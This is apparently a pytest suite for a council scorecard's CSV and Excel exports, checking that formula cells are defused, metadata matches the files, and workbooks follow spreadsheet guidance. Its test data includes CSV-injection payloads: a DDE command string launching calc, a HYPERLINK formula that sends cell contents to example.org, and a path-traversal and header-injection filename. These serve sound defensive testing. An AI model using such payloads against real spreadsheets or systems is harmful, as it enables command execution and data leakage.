"""Files that people take away: true to the figures, harmless in a spreadsheet, and readable by everyone."""

import csv
import io
import json
import zipfile
from dataclasses import replace
from datetime import UTC, date, datetime
from pathlib import Path
from xml.etree import ElementTree

import duckdb
import pytest
from python_calamine import CalamineWorkbook

from scorecard.exports.csv_file import csv_bytes, metadata_bytes, zip_bytes
from scorecard.exports.export import Column, Export
from scorecard.exports.formulas import defused
from scorecard.exports.series import series_export
from scorecard.exports.workbook import workbook_bytes
from scorecard.snapshot.store import Snapshot, open_snapshot
from tests.conftest import SHARED
from tests.small_snapshot import HOME, publish

PAYLOADS = SHARED / "badinput" / "files" / "patt" / "csv_injection.csv"
LIVE = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "＝1+1", "＋1+1", "－1+1",
    "＠SUM(1)", "=cmd|' /C calc'!A0", '=HYPERLINK("https://example.org/?x="&A1,"Click")', "-2+3+cmd|' /C calc'!A0",
    "+44 1234 567890", "@mention", "--5", "'=1+1", "''=1+1", "|calc", "-", "- ", "=", "{=1+1}", '"=1+1"', "=1+1\n=2",
)  # fmt: skip
PLAIN = ("Ashby", "", "-5.2", "+3", "-1,234.50", "-5%", "'tis", "O'Neill", "a=1", "1+1", "–",
         "<script>alert(1)</script>",
         "\x00\x01\x1b", "_x0041_", "\ud7ff é 北 🚲", "x" * 40_000)  # fmt: skip
"""Text that no spreadsheet runs."""
SHEETS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def export_of(*cells: str) -> Export:
    """A table with some text and a negative number beside each."""
    return Export(
        name="texts",
        title="=1+1",
        what="@SUM(1)",
        council="Exampleton Council",
        snapshot="2026-11-20T093000Z",
        published_at=datetime(2026, 11, 20, 9, 30, tzinfo=UTC),
        columns=(
            Column("said", "Said", "string", "What was said."),
            Column("figure", "Figure (£)", "number", "A figure.", 2, is_figure=True),
            Column("marker", "Shorthand", "string", "Shorthand."),
            Column("seen", "Seen", "date", "When."),
        ),
        rows=tuple((cell, -5.25, None, date(2026, 4, 1)) for cell in cells),
        facts=(("Source", "-2+3\n=1+1"),),
        marker="marker",
    )


def table_of(content: bytes, above: int) -> list[list[str]]:
    """The rows of a CSV file below what stands above them."""
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))[above:]


def rows_above(export: Export) -> int:
    """What the metadata says of the file."""
    return int(json.loads(metadata_bytes(export))["dialect"]["skipRows"])


def parts_of(book: bytes) -> dict[str, str]:
    """The XML files of a workbook."""
    with zipfile.ZipFile(io.BytesIO(book)) as folder:
        return {name: folder.read(name).decode("utf-8") for name in folder.namelist()}


def sheets_of(book: bytes) -> dict[str, list[list[object]]]:
    """The sheets of a workbook as their readers see them."""
    opened = CalamineWorkbook.from_filelike(io.BytesIO(book))
    return {name: opened.get_sheet_by_name(name).to_python() for name in opened.sheet_names}


def restored(safe: str) -> str:
    """The text without the apostrophe that made it harmless."""
    return safe[1:] if safe.startswith("'") and defused(safe[1:]) == safe else safe


def payloads() -> tuple[str, ...]:
    """Strings of attacks that others have collected."""
    if not PAYLOADS.is_file():
        pytest.skip(f"needs {PAYLOADS}, which is not part of the project")
    with PAYLOADS.open(encoding="utf-8", newline="") as stream:
        return tuple(row["comment"] for row in csv.DictReader(stream))


def check_csv(texts: tuple[str, ...]) -> None:
    """No cell starts a formula; numbers are numbers; reading back gives the same text."""
    export = export_of(*texts)
    content = csv_bytes(export)
    rows = table_of(content, rows_above(export))
    assert rows[0] == [column.name for column in export.columns]
    assert [restored(row[0]) for row in rows[1:]] == list(texts)
    assert {row[1] for row in rows[1:]} == {"-5.25"}
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")):
        for cell in row:
            assert defused(cell) == cell or cell.startswith("'"), f"{cell!r} is live"


def check_workbook(texts: tuple[str, ...]) -> None:
    """No formula and no link out of the book is in its XML; every text is itself when read back."""
    book = workbook_bytes(export_of(*texts))
    parts = parts_of(book)
    for name, text in parts.items():
        if name.startswith("xl/worksheets/") and name.endswith(".xml"):
            root = ElementTree.fromstring(text)
            assert not list(root.iter(f"{SHEETS}f"))
            assert {cell.get("t") for cell in root.iter(f"{SHEETS}c")} <= {"s", None, "n"}
        assert 'TargetMode="External"' not in text
    rows = sheets_of(book)["Figures"][3:]
    assert [row[1] for row in rows] == [-5.25] * len(texts)
    for row, text in zip(rows, texts, strict=True):
        if len(text) > 32_000:
            assert str(row[0]) == f"{text[:32_000]}…"
        elif text.isprintable() and "_x" not in text:
            assert row[0] == text


@pytest.mark.parametrize("text", LIVE)
def test_what_a_spreadsheet_would_run_is_defused(text: str) -> None:
    """It begins with an apostrophe, and that can be taken away again; a lone sign does nothing and stays."""
    safe = defused(text)
    assert restored(safe) == text
    lone = len(text.strip()) == 1
    starts = text.lstrip("' \u00a0")[:1] in "=+-@|\t\r\n＝＋－＠" and not text.startswith(("{", '"'))
    assert (safe != text) == (starts and not lone)


@pytest.mark.parametrize("text", PLAIN)
def test_other_text_stays_as_it_is(text: str) -> None:
    """Signed numbers too."""
    assert defused(text) == text == restored(text)


def test_csv_is_harmless_and_true() -> None:
    """With our own strings."""
    check_csv((*LIVE, *PLAIN))


def test_workbooks_are_harmless_and_true() -> None:
    """With our own strings."""
    check_workbook((*LIVE, *PLAIN))


def test_collected_attacks_are_harmless() -> None:
    """In CSV and in workbooks."""
    texts = payloads()
    assert len(texts) >= 38
    check_csv(texts)
    check_workbook(texts)


@pytest.fixture(scope="module")
def snapshot(tmp_path_factory: pytest.TempPathFactory) -> Snapshot:
    """The small snapshot, with a source's licence that is named."""
    path = publish(tmp_path_factory.mktemp("exports"))
    with duckdb.connect(str(path)) as held:
        held.execute("update source set licence = 'Open Government Licence v3.0'")
    return open_snapshot(path, "officers")


def test_a_series_says_all_that_must_be_said_of_it(snapshot: Snapshot) -> None:
    """Above the figures: title, council, unit, period, snapshot, source with its day, licence, notes on markers."""
    export = series_export(snapshot, "turnover", HOME)
    content = csv_bytes(export)
    above = dict(row for row in table_of(content, 0)[: rows_above(export)] if row and row[0] != "Shorthand")
    assert above["Title"] == "Staff turnover: Exampleton Council"
    assert above["Council"] == "Exampleton Council"
    assert above["Please note"] == "Exampleton is an invented council: none of these figures are real."
    assert (above["Unit"], above["Each figure"]) == ("%", "Each year by itself.")
    assert above["Periods"] == "2023/24 to 2025/26"
    assert above["Figures published"] == "20 November 2026, 09:30 UTC"
    assert above["Snapshot"] == "2026-11-20T093000Z"
    assert above["Source"] == (
        "Service returns, Waste and recycling (Open Government Licence v3.0); latest file received 20 November 2026"
    )
    assert "provisional" in above["Provisional"]
    assert "Meant for" not in above
    shorthand = [row[1] for row in table_of(content, 0) if row[:1] == ["Shorthand"]]
    assert shorthand == ["c: suppressed to protect confidentiality", "p: provisional"]
    officers = series_export(snapshot, "audit_actions", HOME)
    assert ("Meant for", "members and officers") in officers.facts


def test_the_figures_are_those_of_the_series(snapshot: Snapshot) -> None:
    """Missing periods among them as empty cells, breaks in words, target and status beside each figure."""
    export = series_export(snapshot, "missed_bins", HOME)
    rows = [dict(zip([each.name for each in export.columns], row, strict=True)) for row in export.rows]
    assert [row["value"] for row in rows] == [48, 52, 57, 55, None, 61, 58, 63, 66, 72, 80, 92]
    assert rows[-1]["period"] == "Oct 2026"
    assert (rows[-1]["target_low"], rows[-1]["status"]) == (60, "Off target")
    assert next(row["break"] for row in rows if row["break"]).startswith("Counted differently from Apr 2026")
    written = table_of(csv_bytes(export), rows_above(export))
    assert [row[3] for row in written[1:]] == ["48", "52", "57", "55", "", "61", "58", "63", "66", "72", "80", "92"]
    with pytest.raises(KeyError):
        series_export(snapshot, "no_such_measure", HOME)


@pytest.mark.parametrize("measure_id", ["missed_bins", "turnover", "repairs"])
def test_csv_metadata_is_true_of_its_file(snapshot: Snapshot, measure_id: str) -> None:
    """As CSV on the Web asks: rows to skip, names, kinds, what empty means, and a key that is one."""
    export = series_export(snapshot, measure_id, HOME)
    told = json.loads(metadata_bytes(export))
    assert told["@context"] == ["http://www.w3.org/ns/csvw", {"@language": "en-GB"}]
    assert told["url"] == f"{export.name}.csv"
    assert told["dc:license"] == ["Open Government Licence v3.0"]
    dialect, columns = told["dialect"], told["tableSchema"]["columns"]
    content = csv_bytes(export).decode("utf-8-sig")
    assert dialect["encoding"] == "utf-8"
    rows = list(
        csv.reader(
            io.StringIO(content, newline=""), delimiter=dialect["delimiter"], quotechar=dialect["quoteChar"],
            doublequote=dialect["doubleQuote"],
        )
    )[dialect["skipRows"] :]  # fmt: skip
    assert content.endswith(dialect["lineTerminators"][0])
    assert content.count("\r\n") == content.count("\n") == len(rows) + dialect["skipRows"]
    assert rows[0] == [column["titles"] for column in columns] == [column["name"] for column in columns]
    parse = {"string": str, "number": float, "date": date.fromisoformat}
    for row in rows[1:]:
        for cell, column in zip(row, columns, strict=True):
            kind = column["datatype"] if isinstance(column["datatype"], str) else column["datatype"]["base"]
            assert cell == column["null"] or parse[kind](cell) is not None
    at = [rows[0].index(name) for name in told["tableSchema"]["primaryKey"]]
    assert len({tuple(row[place] for place in at) for row in rows[1:]}) == len(rows) - 1 > 0


def test_the_zip_holds_the_file_and_its_metadata_by_their_names(snapshot: Snapshot) -> None:
    """So that programs find one from the other; the same figures give the same bytes."""
    export = series_export(snapshot, "missed_bins", HOME)
    with zipfile.ZipFile(io.BytesIO(zip_bytes(export))) as folder:
        assert folder.namelist() == [f"missed_bins_{HOME}.csv", f"missed_bins_{HOME}.csv-metadata.json"]
        assert folder.read(f"missed_bins_{HOME}.csv") == csv_bytes(export)
    assert zip_bytes(export) == zip_bytes(series_export(snapshot, "missed_bins", HOME))


def test_names_of_files_are_plain(snapshot: Snapshot) -> None:
    """Whatever stands in an address."""
    assert series_export(snapshot, "missed_bins", '../../etc/"\r\nX: y').name == "missed_bins__etc_X_y"


def test_a_workbook_follows_the_guidance_on_spreadsheets(snapshot: Snapshot) -> None:
    """Cover, notes, one marked table a sheet from its first column, no merged or empty cells, shorthand explained."""
    export = series_export(snapshot, "turnover", HOME)
    book = workbook_bytes(export)
    sheets, parts = sheets_of(book), parts_of(book)
    assert list(sheets) == ["Cover", "Notes", "Figures"]
    assert sheets["Cover"][0][0] == export.title == sheets["Figures"][0][0]
    assert {len([cell for cell in row if cell != ""]) for row in sheets["Cover"]} == {1}
    assert "Unit: %" in [row[0] for row in sheets["Cover"]]
    table = sheets["Figures"][2:]
    assert table[0][:4] == ["Period", "First day", "Last day", "Figure (%)"]
    assert all(cell != "" for row in table for cell in row)
    assert [row[3] for row in table[1:]] == [11.0, "[c]", 12.5]
    assert [row[table[0].index("Shorthand")] for row in table[1:]] == ["no note", "[c]", "[p]"]
    used = {str(cell) for row in table for cell in row if str(cell).startswith("[")}
    assert used <= {str(row[0]) for row in sheets["Notes"][3:]}
    for number in (1, 2, 3):
        assert "mergeCell" not in parts[f"xl/worksheets/sheet{number}.xml"]
    for number, size in ((1, len(sheets["Notes"])), (2, len(sheets["Figures"]))):
        root = ElementTree.fromstring(parts[f"xl/tables/table{number}.xml"])
        assert root.get("ref", "").startswith("A3:")
        assert root.get("ref", "").endswith(str(size))
        assert root.find(f"{SHEETS}autoFilter") is None
    panes = ElementTree.fromstring(parts["xl/worksheets/sheet3.xml"]).iter(f"{SHEETS}pane")
    assert [(pane.get("topLeftCell"), pane.get("state")) for pane in panes] == [("B4", "frozen")]
    core = parts["docProps/core.xml"]
    assert f"<dc:title>{export.title}</dc:title>" in core
    assert "<dc:language>en-GB</dc:language>" in core
    assert workbook_bytes(export) == book


def test_a_workbook_leaves_out_columns_that_say_nothing(snapshot: Snapshot) -> None:
    """No target, no column for targets; but figures that are all missing are shown as missing."""
    headings = sheets_of(workbook_bytes(series_export(snapshot, "turnover", HOME)))["Figures"][2]
    assert not [heading for heading in headings if str(heading).startswith(("Target", "Interval", "Counted diff"))]
    export = series_export(snapshot, "missed_bins", HOME)
    missing = replace(export, rows=tuple((*row[:3], None, *row[4:]) for row in export.rows))
    table = sheets_of(workbook_bytes(missing))["Figures"][2:]
    assert {row[3] for row in table[1:]} == {"[x]"}


def test_an_empty_table_is_still_a_file() -> None:
    """With its headings and all that is said of it."""
    export = export_of()
    assert table_of(csv_bytes(export), rows_above(export)) == [["said", "figure", "marker", "seen"]]
    assert sheets_of(workbook_bytes(export))["Figures"][2][:2] == ["Said", "Figure (£)"]


def test_rows_must_fit_their_columns() -> None:
    """A shifted cell is a fault at once, and not a wrong figure in somebody's hands."""
    with pytest.raises(ValueError, match="3 cells under 4 columns"):
        replace(export_of(), rows=(("a", 1.0, None),))


def test_pages_offer_the_files_without_making_them(tmp_path: Path) -> None:
    """Three buttons with names that say what they give; nothing is made until one is pressed."""
    from streamlit.testing.v1 import AppTest

    def page() -> None:
        from pages.components import exports

        def never() -> None:
            raise AssertionError("an export was made although nobody asked")

        exports.buttons(never, "missed_bins")  # type: ignore[arg-type]

    app = AppTest.from_function(page, default_timeout=60).run()
    assert not app.exception
    labels = [element.proto.label for element in app.get("download_button")]
    assert labels == ["Download CSV", "Download Excel", "Download CSV with metadata"]
